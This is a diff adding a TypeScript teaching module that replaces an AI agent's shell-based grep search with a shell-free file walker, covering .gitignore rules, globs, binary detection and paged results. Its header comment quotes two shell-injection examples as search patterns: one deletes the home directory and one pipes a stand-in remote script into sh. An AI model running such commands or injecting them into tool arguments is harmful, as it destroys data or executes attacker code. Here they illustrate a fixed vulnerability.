@@ -0,0 +1,282 @@
+/**
+ * 🎓 MODULE 5: Searching Code Without a Shell
+ *
+ * The first search_files built a command line:
+ *
+ *   grep -rn "${pattern}" ${path} --include="*.ts" ...
+ *
+ * A pattern like  "; rm -rf ~; echo "  or  $(curl evil.sh | sh)  is then
+ * not a search — it's a shell command the model wrote. And even honest
+ * patterns got every match in node_modules, minified bundles included,
+ * in one unbounded blob.
+ *
+ * THE FIX: walk the tree and match lines in Node. No shell anywhere, and
+ * everything grep's flags did becomes a typed option:
+ *
+ *   literal / case_sensitive   how the pattern matches
+ *   include / exclude          globs: "*.ts", "src/**", "*.{ts,tsx}"
+ *   context_lines              lines around each match
+ *   max_results / offset       a page of matches, and how to get the next
+ *
+ * .gitignore'd paths and binary files are skipped — the same files a
+ * human wouldn't grep either.
+ */
+
+import * as fsp from 'fs/promises';
+import * as path from 'path';
+import { globToRegExp } from './permissions.js';
+
+// ============================================
+// PART 1: .gitignore
+// ============================================
+
+/** Never searched, .gitignore or not */
+const ALWAYS_SKIPPED = new Set(['.git', 'node_modules', '.agent']);
+
+interface IgnoreRule {
+  /** Directory of the .gitignore, relative to the workspace root ('' = the root) */
+  base: string;
+  regex: RegExp;
+  /** No slash in the pattern: it matches a name at any depth */
+  basename: boolean;
+  negate: boolean;
+  dirOnly: boolean;
+}
+
+/**
+ * The parts of the .gitignore format that matter in practice: comments,
+ * `!` negation, `dir/` for directories only, `/anchored` vs. anywhere,
+ * and * / ** / ? globs.
+ */
+function parseGitignore(content: string, base: string): IgnoreRule[] {
+  const rules: IgnoreRule[] = [];
+  for (const raw of content.split(/\r?\n/)) {
+    let line = raw.trimEnd();
+    if (!line || line.startsWith('#')) continue;
+    const negate = line.startsWith('!');
+    if (negate) line = line.slice(1);
+    const dirOnly = line.endsWith('/');
+    if (dirOnly) line = line.slice(0, -1);
+    // A slash anywhere but the end anchors the pattern to the .gitignore's directory
+    const basename = !line.includes('/');
+    line = line.replace(/^\//, '');
+    if (line) rules.push({ base, regex: globToRegExp(line), basename, negate, dirOnly });
+  }
+  return rules;
+}
+
+/** Last matching rule wins — that's how `!keep.log` after `*.log` works */
+function isIgnored(relative: string, isDirectory: boolean, rules: IgnoreRule[]): boolean {
+  let ignored = false;
+  for (const rule of rules) {
+    if (rule.dirOnly && !isDirectory) continue;
+    if (rule.base && !relative.startsWith(`${rule.base}/`)) continue;
+    const subject = rule.basename ? path.posix.basename(relative) : relative.slice(rule.base ? rule.base.length + 1 : 0);
+    if (rule.regex.test(subject)) ignored = !rule.negate;
+  }
+  return ignored;
+}
+
+// ============================================
+// PART 2: WALKING AND MATCHING
+// ============================================
+
+export interface SearchOptions {
+  pattern: string;
+  /** Match the pattern as plain text instead of a regular expression */
+  literal?: boolean;
+  case_sensitive?: boolean;
+  /** Only files matching one of these globs */
+  include?: string[];
+  /** Skip files matching any of these globs */
+  exclude?: string[];
+  context_lines?: number;
+  max_results?: number;
+  /** Matches to skip — for the next page */
+  offset?: number;
+}
+
+interface Match {
+  file: string;
+  /** 0-based */
+  line: number;
+  lines: string[];
+}
+
+const MAX_FILE_BYTES = 2 * 1024 * 1024;
+const MAX_LINE_LENGTH = 300;
+
+/** "*.{ts,tsx}" → ["*.ts", "*.tsx"] — globToRegExp has no braces */
+function expandBraces(glob: string): string[] {
+  const match = /\{([^{}]*)\}/.exec(glob);
+  if (!match) return [glob];
+  return match[1].split(',').flatMap(option =>
+    expandBraces(glob.slice(0, match.index) + option + glob.slice(match.index + match[0].length))
+  );
+}
+
+/** A glob without a slash matches the file name anywhere, like in .gitignore */
+function globMatcher(globs: string[] | undefined): ((relative: string) => boolean) | null {
+  if (!globs || globs.length === 0) return null;
+  const compiled = globs.flatMap(expandBraces).map(glob => ({
+    regex: globToRegExp(glob.replace(/^\.\//, '')),
+    basename: !glob.includes('/')
+  }));
+  return relative => compiled.some(({ regex, basename }) => regex.test(basename ? path.posix.basename(relative) : relative));
+}
+
+/** Same heuristic as git: a NUL byte in the first 8 KB means binary */
+function isBinary(content: Buffer): boolean {
+  return content.subarray(0, 8000).includes(0);
+}
+
+/**
+ * 📺 SHOW THIS: The search itself. Results are relative to `root` (the
+ * workspace); `searchPath` is where the walk starts.
+ */
+export async function searchFiles(
+  root: string,
+  searchPath: string,
+  options: SearchOptions,
+  signal?: AbortSignal
+): Promise<string> {
+  const { literal = false, case_sensitive = true, context_lines = 0, max_results = 50, offset = 0 } = options;
+  let regex: RegExp;
+  try {
+    regex = new RegExp(literal ? options.pattern.replace(/[.*+?^${}()|[\]\\]/g, '\\$&') : options.pattern, case_sensitive ? '' : 'i');
+  } catch (error) {
+    throw new Error(`${(error as Error).message}. Set literal: true to search for the text as is`);
+  }
+  const include = globMatcher(options.include);
+  const exclude = globMatcher(options.exclude);
+  // .gitignore files apply from the workspace root down, even when the search starts deeper
+  const ignoreRoot = searchPath === root || searchPath.startsWith(`${root}${path.sep}`) ? root : searchPath;
+  const toPosix = (absolute: string) => path.relative(ignoreRoot, absolute).split(path.sep).join('/');
+
+  const matches: Match[] = [];
+  let total = 0;
+  let filesSearched = 0;
+  let binarySkipped = 0;
+
+  const searchFile = async (absolute: string) => {
+    const relative = toPosix(absolute);
+    if (include && !include(relative)) return;
+    if (exclude?.(relative)) return;
+    const stat = await fsp.stat(absolute);
+    if (stat.size > MAX_FILE_BYTES) return;
+    const content = await fsp.readFile(absolute, { signal });
+    if (isBinary(content)) {
+      binarySkipped++;
+      return;
+    }
+    filesSearched++;
+    const lines = content.toString('utf-8').split(/\r?\n/);
+    lines.forEach((text, line) => {
+      if (!regex.test(text)) return;
+      total++;
+      // 💡 Count every match, keep only this page's — "of 212" tells the model whether to narrow down
+      if (total > offset && matches.length < max_results) {
+        matches.push({ file: path.relative(root, absolute).split(path.sep).join('/'), line, lines });
+      }
+    });
+  };
+
+  const walk = async (dir: string, rules: IgnoreRule[]): Promise<void> => {
+    signal?.throwIfAborted();
+    const own = await fsp.readFile(path.join(dir, '.gitignore'), 'utf-8')
+      .then(content => parseGitignore(content, toPosix(dir)), () => []);
+    const active = [...rules, ...own];
+
+    const entries = await fsp.readdir(dir, { withFileTypes: true });
+    // Sorted, so that paging with offset always sees the same order
+    entries.sort((a, b) => a.name.localeCompare(b.name));
+    for (const entry of entries) {
+      if (ALWAYS_SKIPPED.has(entry.name)) continue;
+      const absolute = path.join(dir, entry.name);
+      if (isIgnored(toPosix(absolute), entry.isDirectory(), active)) continue;
+      if (entry.isDirectory()) await walk(absolute, active);
+      else if (entry.isFile()) await searchFile(absolute);
+    }
+  };
+
+  const stat = await fsp.stat(searchPath);
+  if (stat.isDirectory()) await walk(searchPath, await ancestorRules(ignoreRoot, searchPath));
+  else await searchFile(searchPath);
+
+  return formatResults(matches, { total, offset, context_lines, filesSearched, binarySkipped });
+}
+
+/** .gitignore files between the workspace root and a deeper starting directory */
+async function ancestorRules(root: string, start: string): Promise<IgnoreRule[]> {
+  const rules: IgnoreRule[] = [];
+  const relative = path.relative(root, start);
+  if (!relative) return rules;
+  let dir = root;
+  for (const part of ['', ...relative.split(path.sep).slice(0, -1)]) {
+    dir = part ? path.join(dir, part) : dir;
+    const base = path.relative(root, dir).split(path.sep).join('/');
+    const content = await fsp.readFile(path.join(dir, '.gitignore'), 'utf-8').catch(() => null);
+    if (content) rules.push(...parseGitignore(content, base));
+  }
+  return rules;
+}
+
+// ============================================
+// PART 3: OUTPUT
+// ============================================
+
+/**
+ * ▶️ What the model sees:
+ *
+ *   3 matches in 2 files
+ *
+ *   src/auth.ts
+ *   14-  function login() {
+ *   15:    const token = getToken();
+ *
+ *   src/api.ts
+ *   40:  token = null
+ *
+ * `15:` is a match, `14-` context — grep's convention. Overlapping
+ * context is merged; `--` separates groups that aren't adjacent.
+ */
+function formatResults(
+  matches: Match[],
+  stats: { total: number; offset: number; context_lines: number; filesSearched: number; binarySkipped: number }
+): string {
+  const { total, offset, context_lines: context } = stats;
+  const skipped = stats.binarySkipped > 0 ? `, ${stats.binarySkipped} binary file(s) skipped` : '';
+  if (total === 0) return `No matches (searched ${stats.filesSearched} file(s)${skipped})`;
+  if (matches.length === 0) return `No matches at offset ${offset} — there are only ${total}`;
+
+  const byFile = new Map<string, Match[]>();
+  for (const match of matches) byFile.set(match.file, [...(byFile.get(match.file) ?? []), match]);
+
+  const sections: string[] = [];
+  for (const [file, fileMatches] of byFile) {
+    const lines = fileMatches[0].lines;
+    const matched = new Set(fileMatches.map(match => match.line));
+    const out: string[] = [file];
+    let last = -1;
+    for (const { line } of fileMatches) {
+      const from = Math.max(0, line - context, last + 1);
+      const to = Math.min(lines.length - 1, line + context);
+      if (last !== -1 && from > last + 1) out.push('--');
+      for (let i = from; i <= to; i++) {
+        const text = lines[i].length > MAX_LINE_LENGTH ? `${lines[i].slice(0, MAX_LINE_LENGTH)}...` : lines[i];
+        out.push(`${i + 1}${matched.has(i) ? ':' : '-'}${text}`);
+      }
+      last = Math.max(last, to);
+    }
+    sections.push(out.join('\n'));
+  }
+
+  const shown = `${offset + 1}–${offset + matches.length}`;
+  const header = matches.length === total
+    ? `${total} match${total === 1 ? '' : 'es'} in ${byFile.size} file(s)${skipped}`
+    : `Matches ${shown} of ${total}${skipped}`;
+  const more = offset + matches.length < total
+    ? `\n\n[truncated: ${total - offset - matches.length} more match(es). Call search_files again with offset: ${offset + matches.length}, or narrow the pattern or include]`
+    : '';
+  return `${header}\n\n${sections.join('\n\n')}${more}`;
+}